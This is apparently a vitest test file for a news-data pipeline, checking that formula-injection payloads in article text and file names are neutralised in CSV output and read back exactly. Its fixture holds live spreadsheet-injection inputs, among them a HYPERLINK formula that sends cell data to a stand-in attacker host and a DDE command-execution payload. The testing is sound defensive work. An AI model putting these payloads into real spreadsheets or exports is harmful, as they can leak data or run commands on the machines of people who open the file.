// An article written to attack a spreadsheet: its quotes, titles and claimants must reach every CSV
// neutralised, and read back exactly.
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ARTICLE_COLUMNS, FIGURE_COLUMNS } from "../../loaders/columns.js";
import { parseCsv, toCsv } from "../../loaders/csv.js";
import { runPipeline, type PipelineResult } from "../../loaders/pipeline.js";

const TABLES = new URL("../../data/tables", import.meta.url).pathname;
let dir: string;
let result: PipelineResult;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "csv-injection-"));
  await writeFile(
    join(dir, "attack.txt"),
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click for the casualty list")',
      "",
      '=cmd|" /C calc"!A0 At least seven people were killed and 69 injured, officials said.',
      "@SUM(1+1) Russia said it downed 162 drones.",
      "-2+3 Ukrainian forces regained 85 square kilometres.",
      "+7 injured in Kharkiv, the governor said.",
    ].join("\n"),
  );
  await writeFile(join(dir, "=evil.txt"), "Headline that is fine here\n\n30 drones were shot down, Kyiv said.\n");
  result = await runPipeline({ articlesDir: dir, tablesDir: TABLES });
}, 60_000);

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("CSV injection", () => {
  it("no cell of figures.csv or articles.csv starts with a formula character", () => {
    const csvs = [toCsv(result.figures, FIGURE_COLUMNS), toCsv(result.articles, ARTICLE_COLUMNS)];
    for (const csv of csvs) {
      const cells = Papa.parse<string[]>(csv, { skipEmptyLines: "greedy" }).data.flat();
      const dangerous = cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell));
      expect(dangerous).toEqual([]);
    }
  });

  it("neutralises the title and the file name of an article, and parseCsv restores them", () => {
    const csv = toCsv(result.articles, ARTICLE_COLUMNS);
    expect(csv).toContain("'=evil,'=evil.txt,");
    // The HYPERLINK line holds a URL, so the headline is the next line: a DDE payload.
    expect(csv).toContain(`attack,attack.txt,"'=cmd|"" /C calc""!A0 At least seven people were killed`);
    expect(parseCsv(csv).rows.map((r) => r.article)).toEqual(result.articles.map((a) => a.article));
    expect(parseCsv(csv).rows.map((r) => r.title)).toEqual(result.articles.map((a) => a.title));
  });

  it("quotes that start with a formula character read back exactly", () => {
    expect(result.figures.length).toBeGreaterThan(0);
    const back = parseCsv(toCsv(result.figures, FIGURE_COLUMNS)).rows;
    expect(back.map((r) => r.quote)).toEqual(result.figures.map((f) => f.quote));
    expect(back.map((r) => r.figure_text)).toEqual(result.figures.map((f) => f.figure_text));
  });
});
